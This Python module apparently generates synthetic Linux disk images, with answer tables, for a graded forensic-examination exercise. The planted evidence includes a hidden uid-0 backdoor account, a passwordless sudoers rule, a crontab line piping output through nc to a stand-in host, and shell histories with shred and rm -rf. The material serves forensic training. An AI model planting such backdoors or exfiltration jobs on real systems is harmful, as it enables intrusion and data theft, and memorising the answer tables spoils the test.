"""Draws a case: a computer that some people used, the disk that it left behind, and every table of a right report."""

import base64
import gzip
import hashlib
import random
import struct
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import UTC, datetime
from urllib.parse import quote

from disk import File
from formats import hashed, letter, places, record

NAMES = (
    "amalia",
    "bodo",
    "carla",
    "dietrich",
    "elsa",
    "fabio",
    "greta",
    "henrik",
    "ilse",
    "jonas",
    "karin",
    "ludo",
    "mona",
    "nils",
)
WORDS = (
    "harbour",
    "ledger",
    "meeting",
    "invoice",
    "ferry",
    "garden",
    "ticket",
    "archive",
    "winter",
    "repair",
    "painting",
    "lantern",
)
DAY = 86400
PROGRAMS = ("/bin/bash", "/bin/sh", "/usr/bin/zsh")


def utc(when: float) -> str:
    return f"{datetime.fromtimestamp(when, UTC):%Y-%m-%dT%H:%M:%SZ}"


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@dataclass
class Case:
    """What is given to an examiner, and what a right report says: table -> rows, unsorted, without headers."""

    image: bytes
    known: bytes
    tables: dict[str, list[tuple[object, ...]]]


@dataclass
class Story:
    """What happened, as it is written onto the disk."""

    rng: random.Random
    start: int = 0
    zone: int = 0
    host: str = ""
    users: list[str] = field(default_factory=list)
    root: dict[str, File] = field(default_factory=dict)
    data: dict[str, File] = field(default_factory=dict)
    rows: dict[str, list[tuple[object, ...]]] = field(default_factory=lambda: defaultdict(list))
    events: list[tuple[object, ...]] = field(default_factory=list)

    def moment(self, low: float = 2.0, high: float = 55.0) -> int:
        """A time between days of the story."""
        return self.start + int(self.rng.uniform(low, high) * DAY)

    def word(self) -> str:
        return self.rng.choice(WORDS) + f"{self.rng.randint(10, 99)}"

    def put(self, path: str, data: bytes | str, volume: int = 1, **more: int) -> File:
        """A file on a volume, with times of its own."""
        data = data.encode() if isinstance(data, str) else data
        born = more.pop("born", self.moment(0, 2))
        modified = more.pop("modified", born + self.rng.randint(0, 40 * DAY))
        file = File(data=data, born=born, modified=modified, **more)
        (self.root if volume == 1 else self.data)[path] = file
        return file

    def say(self, when: int, user: str, event: str, detail: str) -> None:
        self.events.append((utc(when), user, event, detail))

    def local(self, when: int) -> datetime:
        """The clock on the wall, which the logs show."""
        return datetime.fromtimestamp(when + 3600 * self.zone, UTC).replace(tzinfo=None)


def system(s: Story) -> None:
    """Who and where: host, accounts, groups."""
    rng, rows = s.rng, s.rows
    s.host = s.word()
    machine = f"{rng.getrandbits(128):032x}"
    name = f"Debian GNU/Linux 12 ({rng.choice(WORDS)})"
    s.put("/etc/hostname", s.host + "\n")
    s.put("/etc/timezone", f"Etc/GMT{'-' if s.zone >= 0 else '+'}{abs(s.zone)}\n")
    s.put("/etc/machine-id", machine + "\n")
    s.put("/etc/os-release", f'PRETTY_NAME="{name}"\nNAME="Debian GNU/Linux"\nID=debian\n')
    rows["host"] += [("hostname", s.host), ("offset", s.zone), ("machine", machine), ("system", name)]
    s.users = rng.sample(NAMES, 4)
    backdoor = "sys" + s.word()
    passwd, shadow = ["daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin"], []
    people = [("root", 0, "/root"), *[(user, 1000 + i, f"/home/{user}") for i, user in enumerate(s.users)]]
    people.append((backdoor, 0, "/var/lib/" + backdoor))
    kinds = {
        "$6$ab$xyz": "sha512",
        "$y$j9T$ab$xyz": "yescrypt",
        "$1$ab$xyz": "md5",
        "!": "locked",
        "*": "none",
        "": "empty",
    }
    for user, uid, home in [("daemon", 1, "/usr/sbin"), *people]:
        secret = "*" if user == "daemon" else rng.choice(list(kinds))
        shell = "/usr/sbin/nologin" if user == "daemon" else rng.choice(PROGRAMS)
        day = s.start // DAY - rng.randint(0, 300)
        if user != "daemon":
            passwd.append(f"{user}:x:{uid}:{uid}:{user.title()},,,:{home}:{shell}")
        shadow.append(f"{user}:{secret}:{day}:0:99999:7:::")
        rows["accounts"].append((user, uid, home, shell, kinds[secret], utc(day * DAY)[:10]))
    s.put("/etc/passwd", "\n".join(passwd) + "\n")
    s.put("/etc/shadow", "\n".join(shadow) + "\n", mode=0o640)
    rows["admins"] += [
        ("root", "uid"),
        (backdoor, "uid"),
        (s.users[0], "group"),
        (s.users[1], "group"),
        (s.users[2], "sudoers"),
    ]
    s.put(
        "/etc/group",
        f"root:x:0:\nadm:x:4:{s.users[3]}\nsudo:x:27:{s.users[0]},{s.users[1]}\nusers:x:100:{s.users[2]}\n",
    )
    s.put(
        "/etc/sudoers",
        "# who may what\nDefaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
        mode=0o440,
    )
    s.put("/etc/sudoers.d/local", f"# {s.users[3]} ALL=(ALL) ALL\n{s.users[2]} ALL=(ALL) NOPASSWD: ALL\n", mode=0o440)
    rows["admins"].append(("root", "sudoers"))


def logins(s: Story) -> list[tuple[str, int, int | None]]:
    """wtmp, btmp and the log of sshd; the sessions, None where one never ended."""
    rng, records, sessions = s.rng, [], []
    boots = [s.moment(0, 2), s.moment(18, 22), s.moment(36, 42)]
    for i, boot in enumerate(boots):
        records.append((boot, record(2, "~", "reboot", "6.1.0", boot)))
        until = boots[i + 1] if i < 2 else s.start + 60 * DAY
        for number in range(rng.randint(3, 5)):
            user, line, host = rng.choice(s.users), f"pts/{number}", f"10.0.{rng.randint(0, 9)}.{rng.randint(1, 99)}"
            login = rng.randint(boot + 60, max(boot + 61, until - 7200))
            logout = rng.randint(login + 60, until - 1) if login + 60 < until - 1 else login + 1
            open_end = rng.random() < 0.3
            records.append((login, record(7, line, user, host, login)))
            if not open_end:
                records.append((logout, record(8, line, "", "", logout)))
            end = logout if not open_end else until if i < 2 else None
            sessions.append((user, login, end))
            s.rows["sessions"].append((user, line, host, utc(login), utc(end) if end else ""))
            s.say(login, user, "login", host)
            if end:
                s.say(end, user, "logout", host)
    s.put("/var/log/wtmp", b"".join(data for _, data in sorted(records)), modified=s.moment(56, 58))
    tries, failures = defaultdict(list), []
    for host in (f"192.0.2.{rng.randint(1, 99)}", f"198.51.100.{rng.randint(1, 99)}"):
        for _ in range(rng.randint(2, 6)):
            when, user = s.moment(), rng.choice([*s.users, "admin", "test"])
            tries[host].append((when, user))
            failures.append((when, record(6, "ssh:notty", user, host, when)))
            s.say(when, user, "failure", host)
    s.put("/var/log/btmp", b"".join(data for _, data in sorted(failures)), mode=0o660)
    for host, found in tries.items():
        whens = [when for when, _ in found]
        s.rows["failures"].append(
            (host, len(found), len({user for _, user in found}), utc(min(whens)), utc(max(whens)))
        )
    return sessions


def keys(s: Story) -> dict[str, str]:
    """Keys that may log in, and hosts that were visited; user -> fingerprint of one of the keys."""
    rng, prints = s.rng, {}
    hosts = [f"{s.word()}.example" for _ in range(6)]
    lines = [f"10.9.0.{i + 1} {host} {host.split('.')[0]}" for i, host in enumerate(hosts)]
    s.put("/etc/hosts", "127.0.0.1 localhost\n# servers\n" + "\n".join(lines) + "\n")
    for user in s.users[:3]:
        text = "# keys\n\n"
        for _ in range(rng.randint(1, 2)):
            kind = rng.choice(["ssh-ed25519", "ssh-rsa"])
            blob = struct.pack(">I", len(kind)) + kind.encode() + struct.pack(">I", 32) + rng.randbytes(32)
            told = "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
            options = rng.choice(["", "", 'from="10.0.*,192.0.2.1",no-pty', 'command="echo hello there"'])
            comment = f"{user}@{s.word()}"
            text += (options + " " if options else "") + f"{kind} {base64.b64encode(blob).decode()} {comment}\n"
            s.rows["keys"].append((user, kind, told, comment, options))
            prints[user] = told
        s.put(f"/home/{user}/.ssh/authorized_keys", text, mode=0o600)
    for user in s.users[1:]:
        lines = []
        for host in rng.sample(hosts, 2):
            lines.append(f"{hashed(host, rng.randbytes(20))} ssh-ed25519 AAAA{rng.getrandbits(60):x}")
            s.rows["hosts"].append((user, host))
        lines.insert(1, f"{hashed(s.word() + '.nowhere', rng.randbytes(20))} ssh-rsa AAAA")
        s.put(f"/home/{user}/.ssh/known_hosts", "\n".join(lines) + "\n")
    return prints


def logs(s: Story, prints: dict[str, str]) -> None:
    """sshd, USB devices and packages, by the local clock; sshd's and the kernel's lines lack the year."""
    rng, lines = s.rng, []

    def stamp(when: int) -> str:
        return f"{s.local(when):%b} {s.local(when).day:2} {s.local(when):%H:%M:%S}"

    for _ in range(rng.randint(6, 9)):
        when, user, address = s.moment(), rng.choice(s.users[:3]), f"10.0.{rng.randint(0, 9)}.{rng.randint(1, 99)}"
        method = rng.choice(["publickey", "password"])
        tail = f": ED25519 {prints[user]}" if method == "publickey" else ""
        lines.append(
            (
                when,
                f"sshd[{rng.randint(300, 9999)}]: Accepted {method} for {user} from {address} port {rng.randint(30000, 60000)} ssh2{tail}",
            )
        )
        s.rows["ssh"].append((utc(when), user, address, method, prints[user] if tail else ""))
        s.say(when, user, "ssh", address)
        when = s.moment()
        lines.append(
            (
                when,
                f"sshd[{rng.randint(300, 9999)}]: Failed password for invalid user admin from 192.0.2.9 port 4222 ssh2",
            )
        )
    lines.sort()
    cut = len(lines) // 2
    told = [f"{stamp(when)} {s.host} {line}\n" for when, line in lines]
    old = gzip.compress("".join(told[:cut]).encode(), mtime=0)
    s.put("/var/log/auth.log.1.gz", old, modified=lines[cut - 1][0] + 60)
    s.put("/var/log/auth.log", "".join(told[cut:]), modified=lines[-1][0] + 60)
    kernel, when = [], s.moment(3, 5)
    # A port of its own for each, since a device may stay until the end.
    ports = rng.sample([f"{bus}-{place}" for bus in (1, 2) for place in range(1, 5)], rng.randint(3, 5))
    for number, port in enumerate(ports):
        serial, product = f"{rng.getrandbits(48):012X}", f"{s.word().title()} Disk"
        away = when + rng.randint(600, 3 * DAY)
        kernel.append((when, f"usb {port}: new high-speed USB device number {number + 3} using xhci_hcd"))
        kernel.append((when, f"usb {port}: Product: {product}"))
        kernel.append((when, f"usb {port}: SerialNumber: {serial}"))
        last = number > 2 and rng.random() < 0.7
        if not last:
            kernel.append((away, f"usb {port}: USB disconnect, device number {number + 3}"))
            s.say(away, "", "detached", serial)
        s.rows["usb"].append((serial, product, utc(when), "" if last else utc(away)))
        s.say(when, "", "attached", serial)
        when = away + rng.randint(3600, 8 * DAY)
    text = "".join(f"{stamp(at)} {s.host} kernel: [{at % 99999}.123] {line}\n" for at, line in kernel)
    s.put("/var/log/kern.log", text, modified=kernel[-1][0] + 90)
    text = ""
    for when in sorted(s.moment() for _ in range(6)):
        action, package = rng.choice(["install", "upgrade", "remove", "purge"]), s.word()
        old, new = rng.sample(["1.2-1", "2:1.4-3", "0.9", "3.0~rc1-1"], 2)
        old, new = (
            ("<none>", new) if action == "install" else (old, "<none>") if action in ("remove", "purge") else (old, new)
        )
        told = f"{s.local(when):%Y-%m-%d %H:%M:%S}"
        text += f"{told} startup archives unpack\n{told} {action} {package}:amd64 {old} {new}\n{told} status installed {package}:amd64 {new}\n"
        s.rows["packages"].append((utc(when), action, package, old.replace("<none>", ""), new.replace("<none>", "")))
        s.say(when, "root", action, package)
    s.put("/var/log/dpkg.log", text)


def habits(s: Story) -> dict[str, list[tuple[int, str]]]:
    """Histories of shells, and what starts by itself."""
    rng, told = s.rng, {}
    for user in s.users:
        commands = []
        for _ in range(rng.randint(4, 7)):
            commands.append(
                (
                    s.moment(),
                    rng.choice(["ls -la", "rm -rf {}", "shred {}", "scp {} out:", "cat {}", "sudo -i"]).format(
                        s.word()
                    ),
                )
            )
        commands.sort()
        text = "".join(f"#{when}\n{command}\n" for when, command in commands)
        s.put(f"/home/{user}/.bash_history", text, mode=0o600)
        s.rows["commands"] += [(user, utc(when), command) for when, command in commands]
        for when, command in commands:
            s.say(when, user, "command", command)
        told[user] = commands
    jobs = [f"/usr/local/bin/{s.word()}" for _ in range(5)]
    a, b = rng.sample(s.users, 2)
    s.put(
        "/etc/crontab",
        f"SHELL=/bin/sh\n# m h dom mon dow user command\n17 * * * * root {jobs[0]} --quiet\n*/5 1-4 * * 0\t{a}  {jobs[1]}\n",
    )
    s.put("/etc/cron.d/update", f"# local\n@reboot root {jobs[2]}\n")
    s.put(
        "/var/spool/cron/crontabs/" + b,
        f"# no user here\nMAILTO={b}\n0 3 * * * {jobs[3]} | nc 192.0.2.7 99\n@daily {jobs[4]}\n",
        mode=0o600,
    )
    s.rows["cron"] += [
        ("/etc/crontab", "17 * * * *", "root", jobs[0] + " --quiet"), ("/etc/crontab", "*/5 1-4 * * 0", a, jobs[1]),
        ("/etc/cron.d/update", "@reboot", "root", jobs[2]),
        ("/var/spool/cron/crontabs/" + b, "0 3 * * *", b, jobs[3] + " | nc 192.0.2.7 99"),
        ("/var/spool/cron/crontabs/" + b, "@daily", b, jobs[4]),
    ]  # fmt: skip
    return told


def network(s: Story) -> list[str]:
    """Browsers and mail; the addresses of those who wrote."""
    rng = s.rng
    for user in s.users[:2]:
        visits = [
            (s.moment(), f"https://{s.word()}.example/{s.word()}?q={rng.randint(1, 99)}", s.word().title())
            for _ in range(5)
        ]
        visits.append((s.moment(), *visits[0][1:]))
        downloads = []
        for number in range(3):
            path = f"/home/{user}/Downloads/{s.word()} {number}é.bin"
            when, url = s.moment(), f"https://{s.word()}.example/files/{number}.bin"
            digest = ""
            if number:
                digest = sha256(s.put(path, rng.randbytes(rng.randint(300, 2500))).data)
            downloads.append((when, url, "file://" + quote(path)))
            s.rows["downloads"].append((user, utc(when), url, path, digest))
            s.say(when, user, "download", path)
        s.put(f"/home/{user}/.mozilla/firefox/{s.word()}.default/places.sqlite", places(visits, downloads))
        for when, url, title in visits:
            s.rows["visits"].append((user, utc(when), url, title))
            s.say(when, user, "visit", url)
    people = [f"{s.word()}@{s.word()}.example" for _ in range(4)]
    counts = {address: [0, 0] for address in people}
    for user in s.users[1:3]:
        box = b""
        for _ in range(rng.randint(3, 5)):
            sender, to = rng.sample(people, 2)
            when, subject = s.moment(), f"{s.word()} — {rng.choice(['Grüße', 'déjà vu', 'plain', 'Ærø'])} {s.word()}"
            attached = {s.word() + ".dat": rng.randbytes(rng.randint(100, 900)) for _ in range(rng.randint(0, 2))}
            box += letter(sender, s.word().title(), to, when, rng.randint(-9, 11), subject, attached)
            counts[sender][0] += 1
            counts[to][1] += 1
            s.rows["messages"].append((user, utc(when), sender, to, subject))
            s.say(when, user, "message", f"{sender} to {to}")
            s.rows["attachments"] += [(user, utc(when), name, sha256(data)) for name, data in attached.items()]
        s.put(f"/var/mail/{user}", box)
    s.rows["correspondents"] += [(address, *pair) for address, pair in counts.items() if any(pair)]
    return [address for address, pair in counts.items() if any(pair)]
